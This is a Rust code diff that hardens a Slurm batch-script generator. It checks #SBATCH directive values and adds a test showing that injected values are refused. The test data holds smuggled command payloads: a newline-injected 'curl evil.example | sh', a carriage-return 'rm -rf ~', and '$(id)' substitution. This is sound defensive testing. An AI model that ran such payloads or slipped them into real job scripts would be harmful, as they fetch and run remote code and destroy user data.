@@ -3,7 +3,8 @@
 
 use std::path::PathBuf;
 
-use super::{duration, emit, sh_quote, sharded_scenario};
+use super::{duration, emit, env_vars_read, sharded_scenario};
+use crate::escape::shell::{directive_value, quote as sh_quote};
 
 /// Flags of `ladder slurm`.
 #[derive(clap::Args, Debug, Clone)]
@@ -41,13 +42,23 @@ pub struct SlurmArgs {
 
 /// The batch script for `a`.
 pub fn script(a: &SlurmArgs) -> Result<String, String> {
-    let s = sharded_scenario(&a.scenario, a.shards)?;
+    let loaded = sharded_scenario(&a.scenario, a.shards)?;
+    let s = &loaded.scenario;
     let lead = duration("--lead", &a.lead)?.as_secs().max(1);
     if let Some(d) = &a.drain {
         duration("--drain", d)?;
     }
+    // `#SBATCH` lines are read by Slurm, not a shell: their values are checked, not quoted.
+    if let Some(p) = &a.partition {
+        directive_value("--partition", p)?;
+    }
+    if let Some(x) = &a.time {
+        directive_value("--time", x)?;
+    }
     let n = a.shards;
     let name = &s.name;
+    // Also inside double quotes below: the safe set holds no `$`, backtick, `"` or `\`.
+    directive_value("the scenario's name", name)?;
     let mut t = String::new();
     t.push_str("#!/bin/bash\n");
     t.push_str(&format!(
@@ -73,6 +84,15 @@ pub fn script(a: &SlurmArgs) -> Result<String, String> {
         t.push_str(&format!(
             "# The API key is read from ${var} in the job's environment (sbatch exports it by default);\n\
              # it is never written here.\n"
+        ));
+    }
+    let vars = env_vars_read(&loaded);
+    if !vars.is_empty() {
+        let names: Vec<String> = vars.iter().map(|v| format!("${v}")).collect();
+        t.push_str(&format!(
+            "# Every task reads {} from the job's environment (sbatch exports the submitting\n\
+             # shell's by default): set them before sbatch, as for `ladder validate`.\n",
+            names.join(", ")
         ));
     }
     t.push_str("set -euo pipefail\n\n");
@@ -106,6 +126,72 @@ pub fn main(a: &SlurmArgs) -> i32 {
         Err(m) => {
             eprintln!("error: {m}");
             crate::exit::BAD_INPUT
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn args(dir: &std::path::Path) -> SlurmArgs {
+        let sc = dir.join("s.yaml");
+        let tok = concat!(
+            env!("CARGO_MANIFEST_DIR"),
+            "/scenarios/tokenizers/ladder-tiny.json"
+        );
+        std::fs::write(
+            &sc,
+            format!(
+                "version: 1\nname: sl\nendpoint:\n  base_url: sim\nmodel: m\ntokenizer: {tok}\n\
+                 workload:\n  input_tokens: 8\n  output_tokens: 4\n  requests_per_rung: 4\n\
+                 load:\n  rates: [4]\n"
+            ),
+        )
+        .unwrap();
+        SlurmArgs {
+            scenario: sc,
+            shards: 2,
+            out: "results".into(),
+            lead: "60s".into(),
+            drain: None,
+            ladder: "ladder".into(),
+            partition: None,
+            time: None,
+            cpus_per_task: None,
+            output: None,
+        }
+    }
+
+    /// A newline in `--partition` / `--time` would add `#SBATCH` lines and commands to the
+    /// job: refused, naming the flag; nothing from the value reaches the script.
+    #[test]
+    fn a_partition_or_time_that_would_add_lines_is_refused() {
+        let tmp = tempfile::tempdir().unwrap();
+        let mut a = args(tmp.path());
+        a.partition = Some("gpu".into());
+        a.time = Some("01:00:00".into());
+        let ok = script(&a).unwrap();
+        assert!(
+            ok.contains("#SBATCH --partition=gpu\n#SBATCH --time=01:00:00\n"),
+            "{ok}"
+        );
+        for (flag, bad) in [
+            (
+                "--partition",
+                "gpu\n#SBATCH --nodelist=victim\ncurl evil.example | sh",
+            ),
+            ("--time", "01:00:00\rrm -rf ~"),
+            ("--partition", "gpu $(id)"),
+        ] {
+            let mut a = args(tmp.path());
+            if flag == "--time" {
+                a.time = Some(bad.into());
+            } else {
+                a.partition = Some(bad.into());
+            }
+            let e = script(&a).unwrap_err();
+            assert!(e.contains(flag) && e.contains("#SBATCH"), "{e}");
         }
     }
 }
